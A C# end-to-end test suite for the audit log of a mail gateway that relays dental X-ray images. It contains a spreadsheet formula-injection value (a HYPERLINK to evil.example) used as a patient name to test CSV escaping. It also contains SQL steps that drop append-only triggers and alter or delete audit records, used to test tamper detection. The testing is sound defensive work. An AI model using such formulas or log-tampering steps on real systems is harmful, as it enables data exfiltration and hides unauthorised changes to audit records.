using System.Text;
using System.Text.Json;
using PhiMailGateway.Tests.EndToEnd;
using PhiMailGateway.Tests.TestKit;

namespace PhiMailGateway.Tests.Audit;

/// <summary>
/// The audit log through the running gateway: three messages with DICOM X-rays of three patients
/// (TEST-0001 to two recipients, TEST-0002 to one, and one whose PatientName is a spreadsheet
/// formula) are relayed once in <see cref="OneTimeSetUpAsync"/>; each test then reads the log, or
/// tampers with a copy of the data directory.
/// </summary>
public class AuditEndToEndTests
{
    private const string EvilName = "=HYPERLINK(\"http://evil.example/?x\",\"click\")";

    private TempDirectory _data = null!;
    private byte[] _liveDatabaseBytes = [];

    private string Data => _data.Path;

    [OneTimeSetUp]
    public async Task OneTimeSetUpAsync()
    {
        _data = new TempDirectory();
        await using var gw = await TestGateway.StartAsync(AuditTestKit.RelayImages(), dataDirectory: _data.Path);
        await gw.AddUserAsync("frontdesk", "correct horse");
        await RelayEndToEndTests.SubmitAsync(gw, AuditTestKit.DicomMessage(), "dr.lee@specialist.example", "lab@smilelab.example");
        await RelayEndToEndTests.SubmitAsync(gw, AuditTestKit.DicomMessage("TEST-0002", "OTHER^PATIENT"), "dr.lee@specialist.example");
        await RelayEndToEndTests.SubmitAsync(gw, AuditTestKit.DicomMessage("EVIL-1", EvilName), "lab@smilelab.example");
        await AuditTestKit.WaitForEventsAsync(Data, "Relayed", 4);

        // While the gateway runs, recent pages sit in the WAL file: read both as they are now.
        _liveDatabaseBytes = [.. RawDatabaseBytes()];
    }

    [OneTimeTearDown]
    public void OneTimeTearDown() => _data.Dispose();

    private IEnumerable<byte> RawDatabaseBytes() =>
        new[] { "gateway.db", "gateway.db-wal" }.Select(f => Path.Combine(Data, f)).Where(File.Exists).SelectMany(File.ReadAllBytes);

    [Test]
    public async Task DisclosureLog_DicomToTwoRecipients_ExportByPatientFindsExactlyTheirTwoRecords()
    {
        var entries = await AuditTestKit.ExportJsonAsync(Data, "--patient", DentalCorpus.PatientId);

        Assert.That(entries.Select(e => e.GetProperty("recipient_address").GetString()),
            Is.EquivalentTo(new[] { "dr.lee@specialist.example", "lab@smilelab.example" }), "one record per recipient, and no other patient's");
        foreach (var e in entries)
        {
            var patient = e.GetProperty("patients").EnumerateArray().Single();
            Assert.That(patient.GetProperty("patient_id").GetString(), Is.EqualTo(DentalCorpus.PatientId));
            Assert.That(patient.GetProperty("patient_name").GetString(), Is.EqualTo("PATIENT TEST"), "decrypted for the export, given name first (DICOM TEST^PATIENT)");
            Assert.That(patient.GetProperty("patient_birth_date").GetString(), Is.EqualTo("1980-01-01"), "a date, not the number 19800101");
            Assert.That(e.GetProperty("method").GetString(), Is.EqualTo("Relay"));
            Assert.That(e.GetProperty("rule").GetString(), Is.EqualTo("images-relay"));
            Assert.That(e.GetProperty("purpose").GetString(), Is.EqualTo("Treatment"), "the rule's default purpose");
            Assert.That(e.GetProperty("outcome").GetString(), Is.EqualTo("relayed"));
            Assert.That(e.GetProperty("description").GetString(), Does.StartWith("1 dental image(s): Dicom (DICOM, ").And.Contain("SHA-256 "));
            Assert.That(e.GetProperty("authenticated_user").GetString(), Is.EqualTo("frontdesk"));
            Assert.That(e.GetProperty("sender").GetString(), Is.EqualTo(RelayEndToEndTests.Sender));
            Assert.That(e.GetProperty("message_id").GetString(), Does.EndWith("@practice.example"));
            Assert.That(e.GetProperty("delivery_id").GetString(), Is.Not.Empty);
        }
        Assert.That(entries.Single(e => e.GetProperty("recipient_address").GetString() == "dr.lee@specialist.example").GetProperty("recipient_name").GetString(),
            Is.EqualTo("Dr Lee"), "the display name from To");
        Assert.That(entries.Single(e => e.GetProperty("recipient_address").GetString() == "lab@smilelab.example").GetProperty("recipient_name").GetString(),
            Is.EqualTo("Smile Lab"), "the display name from Cc");
    }

    [TestCase("test-0001")]
    [TestCase(" TEST-0001 ")]
    public async Task AuditExport_PatientIdSpelledDifferently_FindsTheSameRecords(string spelling)
    {
        var entries = await AuditTestKit.ExportJsonAsync(Data, "--patient", spelling);
        Assert.That(entries, Has.Length.EqualTo(2));
    }

    [Test]
    public async Task AuditExport_OtherPatientAndRecipientFilters_FindOnlyTheirRecords()
    {
        var other = await AuditTestKit.ExportJsonAsync(Data, "--patient", "TEST-0002");
        Assert.That(other.Select(e => e.GetProperty("patients")[0].GetProperty("patient_name").GetString()), Is.EqualTo(new[] { "PATIENT OTHER" }));

        var lab = await AuditTestKit.ExportJsonAsync(Data, "--recipient", "LAB@smilelab.example");
        Assert.That(lab, Has.Length.EqualTo(2), "TEST-0001 and EVIL-1 went to the lab");

        var all = await AuditTestKit.ExportJsonAsync(Data);
        Assert.That(all, Has.Length.EqualTo(4));
        var future = await AuditTestKit.ExportJsonAsync(Data, "--since", DateTime.UtcNow.AddDays(1).ToString("yyyy-MM-dd"));
        Assert.That(future, Is.Empty);
        var today = await AuditTestKit.ExportJsonAsync(Data, "--since", DateTime.UtcNow.ToString("yyyy-MM-dd"), "--until", DateTime.UtcNow.ToString("yyyy-MM-dd"));
        Assert.That(today, Has.Length.EqualTo(4), "--until a day includes that day");
    }

    [Test]
    public async Task DisclosureLog_EveryRecipient_HasExactlyOneRecord()
    {
        Assert.That(await AuditTestKit.ScalarAsync<long>(Data, "SELECT COUNT(*) FROM disclosures"), Is.EqualTo(4));
        Assert.That(await AuditTestKit.ScalarAsync<long>(Data, "SELECT COUNT(*) FROM (SELECT queue_id, recipient FROM disclosures GROUP BY queue_id, recipient HAVING COUNT(*) > 1)"), Is.Zero);
    }

    [Test]
    public async Task DisclosureLog_EveryRecord_NamesTheQueuedDeliveryThatCarriesItsRecipient()
    {
        Assert.That(await AuditTestKit.ScalarAsync<long>(Data, "SELECT COUNT(*) FROM disclosures WHERE delivery_id IS NOT NULL"), Is.EqualTo(4));
        Assert.That(await AuditTestKit.ScalarAsync<long>(Data,
            "SELECT COUNT(*) FROM disclosures d WHERE NOT EXISTS (SELECT 1 FROM delivery_recipients r WHERE r.delivery_id = d.delivery_id AND r.recipient = d.recipient)"),
            Is.Zero, "the copy carries its delivery id from Protection to the audit record and the queue row alike");
    }

    [Test]
    public async Task AuditVerify_UntouchedLog_PassesWithTheCount()
    {
        var (code, output, error) = await AuditTestKit.CliAsync(Data, "audit", "verify");
        Assert.That(code, Is.Zero, output + error);
        // 4 Relayed events, and 4 GuardFlagged: each recipient is new to this gateway (Guard:NewRecipient is Flag).
        Assert.That(output, Does.Contain("Audit log intact: 4 disclosure records and 8 events (12 records in the chain)."));
        Assert.That(output, Does.Contain("notes seq 12"), "every commit was anchored in the head file");
    }

    [Test]
    public void AuditDatabase_WithDisclosures_HoldsNoPatientIdentifierInClear()
    {
        var afterStop = RawDatabaseBytes().ToArray();
        Assert.That(afterStop, Is.Not.Empty);
        foreach (var (bytes, when) in new[] { (_liveDatabaseBytes, "while running (db + wal)"), (afterStop, "after stop") })
        {
            foreach (var secret in new[] { DentalCorpus.PatientName, "OTHER^PATIENT", "HYPERLINK", DentalCorpus.PatientId, "TEST-0002", "19800101" })
                Assert.That(IndexOf(bytes, Encoding.UTF8.GetBytes(secret)), Is.EqualTo(-1), $"'{secret}' in gateway.db {when}");
        }
        // The test is able to fail: the sender is stored in clear and is found.
        Assert.That(IndexOf(afterStop, Encoding.UTF8.GetBytes(RelayEndToEndTests.Sender)), Is.Not.EqualTo(-1));
    }

    [Test]
    public async Task AuditExport_PatientNameStartingWithEquals_IsNeutralisedInCsv()
    {
        var (code, output, error) = await AuditTestKit.CliAsync(Data, "audit", "export", "--patient", "EVIL-1");
        Assert.That(code, Is.Zero, error);
        var lines = output.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.That(lines[0], Does.StartWith("\uFEFFdate,recipient_name,recipient_address,description,purpose,method,first_delivered,first_opened,downloads,outcome"));
        Assert.That(lines, Has.Length.EqualTo(2));
        Assert.That(lines[1], Does.Contain(",\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"click\"\")\","),
            "apostrophe first, then RFC 4180 quoting with doubled quotes");
        Assert.That(lines[1], Does.Not.Contain(",=HYPERLINK").And.Not.Contain(",\"=HYPERLINK"));
    }

    // ------------------------------------------------------------ tampering, each on its own copy

    private async Task<string> TamperedCopyAsync(TempDirectory copy, string sql)
    {
        AuditTestKit.CopyDirectory(Data, copy.Path);
        var (code, err) = await AuditTestKit.Sqlite3Async(Path.Combine(copy.Path, "gateway.db"), sql);
        Assert.That(code, Is.Zero, $"sqlite3: {err}");
        return copy.Path;
    }

    private static async Task<string> VerifyFailsAsync(string data)
    {
        var (code, output, error) = await AuditTestKit.CliAsync(data, "audit", "verify");
        Assert.That(code, Is.EqualTo(1), output + error);
        Assert.That(output, Does.Contain("Audit log verification FAILED."));
        return output;
    }

    private async Task<long> SeqOfAsync(string sql) => await AuditTestKit.ScalarAsync<long>(Data, sql);

    [Test]
    public async Task AuditTables_UpdateOrDeleteWithSqlite3_AreRefusedByTriggers()
    {
        using var copy = new TempDirectory();
        AuditTestKit.CopyDirectory(Data, copy.Path);
        var db = Path.Combine(copy.Path, "gateway.db");
        foreach (var sql in new[] { "UPDATE disclosures SET recipient = 'x@example.com';", "DELETE FROM audit_events;", "DELETE FROM disclosure_patients;" })
        {
            var (code, err) = await AuditTestKit.Sqlite3Async(db, sql);
            Assert.That(code, Is.Not.Zero, sql);
            Assert.That(err, Does.Contain("audit records are append-only"), sql);
        }
        Assert.That((await AuditTestKit.CliAsync(copy.Path, "audit", "verify")).Code, Is.Zero);
    }

    [Test]
    public async Task AuditVerify_OneByteOfARecordEditedAndTriggerRestored_FailsNamingThatRecord()
    {
        var seq = await SeqOfAsync("SELECT MIN(seq) FROM disclosures WHERE recipient = 'lab@smilelab.example'");
        using var copy = new TempDirectory();
        var data = await TamperedCopyAsync(copy,
            "DROP TRIGGER disclosures_no_update;" +
            $"UPDATE disclosures SET sender = 'O' || substr(sender, 2) WHERE seq = {seq};" +
            AuditTestKit.AppendOnlyTrigger("disclosures", "UPDATE"));

        var output = await VerifyFailsAsync(data);
        Assert.That(output, Does.Contain($"First bad record: seq {seq}\n"));
        Assert.That(output, Does.Contain("content does not match its MAC"));
        Assert.That(output, Does.Not.Contain("trigger"), "the trigger was put back; the MAC still tells");
    }

    [Test]
    public async Task AuditVerify_NewestRecordDeleted_FailsThroughTheHeadFile()
    {
        var newest = await SeqOfAsync("SELECT MAX(seq) FROM (SELECT seq FROM disclosures UNION ALL SELECT seq FROM audit_events)");
        var table = await SeqOfAsync($"SELECT COUNT(*) FROM audit_events WHERE seq = {newest}") == 1 ? "audit_events" : "disclosures";
        using var copy = new TempDirectory();
        var data = await TamperedCopyAsync(copy,
            $"DROP TRIGGER {table}_no_delete; DELETE FROM {table} WHERE seq = {newest};" + AuditTestKit.AppendOnlyTrigger(table, "DELETE"));

        var output = await VerifyFailsAsync(data);
        Assert.That(output, Does.Contain($"First bad record: seq {newest}\n"));
        Assert.That(output, Does.Contain("newest records removed"));
    }

    [Test]
    public async Task AuditVerify_RecordInTheMiddleDeleted_FailsAtTheGap()
    {
        var seq = await SeqOfAsync("SELECT MIN(seq) FROM audit_events");
        using var copy = new TempDirectory();
        var data = await TamperedCopyAsync(copy, $"DROP TRIGGER audit_events_no_delete; DELETE FROM audit_events WHERE seq = {seq};" + AuditTestKit.AppendOnlyTrigger("audit_events", "DELETE"));

        var output = await VerifyFailsAsync(data);
        Assert.That(output, Does.Contain($"First bad record: seq {seq}\n"));
    }

    [Test]
    public async Task AuditVerify_TwoRecordsReordered_FailsAtTheFirstOfThem()
    {
        var first = await SeqOfAsync("SELECT MIN(seq) FROM disclosures");
        var second = await SeqOfAsync($"SELECT MIN(seq) FROM disclosures WHERE seq > {first}");
        using var copy = new TempDirectory();
        var data = await TamperedCopyAsync(copy,
            "DROP TRIGGER disclosures_no_update;" +
            $"UPDATE disclosures SET seq = -1 WHERE seq = {first}; UPDATE disclosures SET seq = {first} WHERE seq = {second}; UPDATE disclosures SET seq = {second} WHERE seq = -1;" +
            AuditTestKit.AppendOnlyTrigger("disclosures", "UPDATE"));

        var output = await VerifyFailsAsync(data);
        Assert.That(output, Does.Contain($"First bad record: seq {first}\n"));
    }

    [Test]
    public async Task AuditVerify_TriggerDropped_FailsNamingTheTrigger()
    {
        using var copy = new TempDirectory();
        var data = await TamperedCopyAsync(copy, "DROP TRIGGER audit_events_no_delete;");

        var output = await VerifyFailsAsync(data);
        Assert.That(output, Does.Contain("trigger audit_events_no_delete is missing"));
    }

    [Test]
    public async Task AuditVerify_HeadFileDeleted_Fails()
    {
        using var copy = new TempDirectory();
        AuditTestKit.CopyDirectory(Data, copy.Path);
        File.Delete(Path.Combine(copy.Path, "audit", "head.log"));

        var output = await VerifyFailsAsync(copy.Path);
        Assert.That(output, Does.Contain("head file").And.Contain("missing"));
    }

    private static int IndexOf(byte[] haystack, byte[] needle) => haystack.AsSpan().IndexOf(needle);
}
